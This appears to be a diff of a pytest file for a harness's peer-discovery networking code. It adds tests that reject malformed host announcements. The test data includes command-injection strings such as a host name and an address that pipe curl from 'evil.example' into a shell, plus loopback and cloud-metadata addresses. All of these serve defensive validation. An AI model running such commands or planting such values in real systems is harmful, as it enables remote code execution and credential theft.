@@ -3,13 +3,14 @@
 import asyncio
 import socket
 from collections.abc import Coroutine, Mapping
+from dataclasses import replace
 from typing import Any, TypeVar
 
 import pytest
 
 from harness.core.errors import NetworkError, UsageError
 from harness.machine.network.among_hosts import parse_peer
-from harness.machine.network.host_matching import Hosts, choose
+from harness.machine.network.host_matching import Hosts, Offer, choose
 from harness.machine.network.interfaces import HostNetwork
 from harness.machine.network.peer_messages import VERSION, Seal, read_host
 from harness.machine.network.rendezvous import MAX_UNKNOWN, join, listen, meeting_places
@@ -66,10 +67,15 @@ def test_all_know_the_same() -> None:
     assert len(said) == 3
 
 
-def test_an_address_at_which_another_host_answers_is_not_this_hosts() -> None:
+@pytest.mark.parametrize("said", [b"", b"token\n", b"x" * (1 << 18)])
+def test_an_address_at_which_another_host_answers_is_not_this_hosts(said: bytes) -> None:
+    def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        writer.write(said)
+        writer.close()
+
     async def impostor() -> None:
         """Says hello, and that its probed port is one at which nobody knows its token."""
-        strangers = await asyncio.start_server(lambda reader, writer: writer.close(), "127.0.0.1", 0)
+        strangers = await asyncio.start_server(answer, "127.0.0.1", 0)
         port = strangers.sockets[0].getsockname()[1]
         reader, writer, seal = await greeted()
         offer = {"interface": "docker0", "address": "127.0.0.1", "family": 4}
@@ -146,11 +152,17 @@ def test_who_is_none_of_them_is_sent_away(line: bytes) -> None:
         {"ports": ["1", 0]},
         {"name": "x\x1b]0;P\x07"},
         {"name": "x" * 254},
+        {"name": ""},
+        {"name": "x; curl https://evil.example | sh"},
         {"name": None},
         {"offers": [OFFER | {"address": "10.0.0.5 -j ACCEPT; curl https://evil.example/x | sh"}]},
         {"offers": [OFFER | {"address": "metadata.internal"}]},
         {"offers": [OFFER | {"address": 1}]},
         {"offers": [OFFER | {"address": "224.0.0.1"}]},
+        {"offers": [OFFER | {"address": "127.0.0.1"}]},
+        {"offers": [OFFER | {"address": "::1", "family": 6}]},
+        {"offers": [OFFER | {"address": "169.254.169.254"}]},
+        {"offers": [OFFER | {"address": "::ffff:127.0.0.1", "family": 6}]},
         {"offers": [OFFER | {"family": 6}]},
         {"offers": [OFFER] * 65},
         {"offers": {"deep": [[[[]]]]}},
@@ -160,6 +172,25 @@ def test_a_host_that_describes_itself_wrongly_is_sent_away(changed: dict[str, An
     with pytest.raises(NetworkError):
         read_host({**HELLO, **changed})
     assert read_host({**HELLO, "offers": [OFFER]}).offers[0].address == "10.0.0.1"
+
+
+def test_no_host_is_asked_to_try_what_only_it_itself_has() -> None:
+    """A host with the key cannot have another one try its own loopback, or the service that a cloud has beside it."""
+    own = read_host({**HELLO, "offers": [OFFER]})
+    beside = read_host({**HELLO, "offers": [OFFER]}, own)
+    assert beside == own
+    for address in ("127.0.0.1", "169.254.169.254"):
+        given = {**HELLO, "offers": [OFFER | {"address": address}]}
+        with pytest.raises(NetworkError):
+            read_host(given, own)
+        with_it = replace(own, offers=(*own.offers, Offer("eth1", address, 4)))
+        assert read_host(given, with_it).offers[0].address == address, "two hosts of one link, or of one machine"
+
+
+def test_a_host_with_a_name_that_is_none_takes_part() -> None:
+    peer = join(named("my host; reboot"), ("127.0.0.1", PORT), key=KEY, wait_s=20)
+    (known, _), _, _ = asyncio.run(meeting(peer, num_hosts=2))
+    assert known.hosts[1].name == "my_host__reboot"
 
 
 def test_messages_are_good_once_and_in_one_direction() -> None:
